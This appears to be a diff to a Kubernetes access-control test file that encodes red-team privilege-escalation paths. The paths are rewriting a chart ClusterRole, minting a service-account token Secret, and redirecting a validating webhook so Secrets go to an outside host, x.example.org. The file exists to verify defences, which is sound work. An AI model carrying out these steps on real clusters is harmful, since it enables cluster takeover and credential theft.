@@ -84,18 +84,36 @@ PATHS: dict[str, Path] = {
                 old_object={"metadata": {"name": "ingress", "labels": {
                     "pod-security.kubernetes.io/enforce": "restricted"}}}),
     ),
-    # What stays (docs/access.md, "What is left"):
+    # Issue 20: the red team's first step to cluster-admin, closed by pinning each chart
+    # role's rules to what its chart renders.
     "rewrite a chart ClusterRole to grant everything": (
         lambda m: m.can_write_role(DEPLOYER, "patch", "prometheus-server", EVERYTHING),
         _role({"app.kubernetes.io/managed-by": "Helm"}),
     ),
+    "create a token Secret for a chart ServiceAccount": (
+        lambda m: m.can(DEPLOYER, "create", "secrets", "", "monitoring"),
+        Request("CREATE", "", "secrets", USER, namespace="monitoring", object={
+            "metadata": {"name": "t", "annotations": {
+                "kubernetes.io/service-account.name": "prometheus-server"}},
+            "type": "kubernetes.io/service-account-token"}),
+    ),
+    "rewrite the chart's webhook to intercept Secrets elsewhere": (
+        lambda m: m.can(DEPLOYER, "update", "validatingwebhookconfigurations", ADMISSION,
+                        name="cert-manager-webhook"),
+        Request("UPDATE", ADMISSION, "validatingwebhookconfigurations", USER,
+                object={"metadata": {"name": "cert-manager-webhook"}, "webhooks": [{
+                    "name": "x.example.org", "clientConfig": {"url": "https://x.example.org/"},
+                    "rules": [{"apiGroups": [""], "resources": ["secrets"],
+                               "apiVersions": ["v1"], "operations": ["CREATE"]}]}]},
+                old_object={"metadata": {"name": "cert-manager-webhook"}, "webhooks": []}),
+    ),
+    # What stays (docs/access.md, "What is left"):
     "run pods as a chart's ServiceAccount": (
         lambda m: m.can_run_pods(DEPLOYER, "monitoring"),
         None,
     ),
 }
 RESIDUAL = {
-    "rewrite a chart ClusterRole to grant everything",
     "run pods as a chart's ServiceAccount",
 }
 
